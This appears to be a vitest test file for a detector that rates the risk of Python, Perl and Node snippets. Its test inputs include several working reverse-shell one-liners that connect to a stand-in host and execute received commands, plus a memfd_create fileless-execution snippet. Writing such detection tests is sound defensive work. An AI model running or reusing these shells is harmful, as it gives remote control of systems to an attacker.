import { describe, expect, it } from 'vitest';
import { readCode } from './script-code.ts';
import type { Language } from './shell-words.ts';

const levels = (language: Language, text: string): string[] => readCode(language, text).signs.map(({ level }) => level);

describe('code of other languages', () => {
  it('obeys what a connection says', () => {
    expect(levels('python', 'import socket, subprocess\nc = socket.create_connection(("203.0.113.2", 1))\nwhat = c.recv(99).decode()\nc.send(subprocess.run(what, shell=True, capture_output=True).stdout)\n')).toEqual(['critical']);
    expect(levels('python', 'import asyncio, os\nr, w = await asyncio.open_connection("203.0.113.2", 1)\nline = await r.readline()\nw.write(os.popen(line.decode()).read())\n')).toEqual(['critical']);
    expect(levels('perl', 'use IO::Socket::INET; $s = IO::Socket::INET->new("203.0.113.2:1"); while (<$s>) { print $s `$_` }')).toContain('critical');
    expect(levels('perl', '$k = IO::Socket::INET->new("203.0.113.2:1"); while ($l = <$k>) { print $k qx($l) }')).toContain('critical');
    expect(levels('node', 'const c = require("net").connect(1, "203.0.113.2"); c.on("data", d => { require("child_process").exec(d.toString()) })')).toContain('critical');
  });

  it('runs a program from memory', () => {
    expect(levels('python', 'import os\nf = os.memfd_create("x")\nos.write(f, data)\nos.execv(f"/proc/self/fd/{f}", ["x"])\n')).toEqual(['high']);
  });

  it('may talk and start programs without doing one with the other', () => {
    expect(levels('python', 'import socket, subprocess\ns = socket.socket()\ns.connect(("127.0.0.1", 6379))\nreply = s.recv(64)\nprint(reply)\nsubprocess.run(["systemctl", "restart", "app"])\n')).toEqual([]);
    expect(levels('node', 'const net = require("net"); net.connect(80).on("data", chunk => { console.log(chunk) }); require("child_process").exec("df -h")')).toEqual([]);
    expect(levels('perl', 'use IO::Socket; my $s = IO::Socket::INET->new("127.0.0.1:25"); while (<$s>) { print } system("true");')).toEqual([]);
  });
});
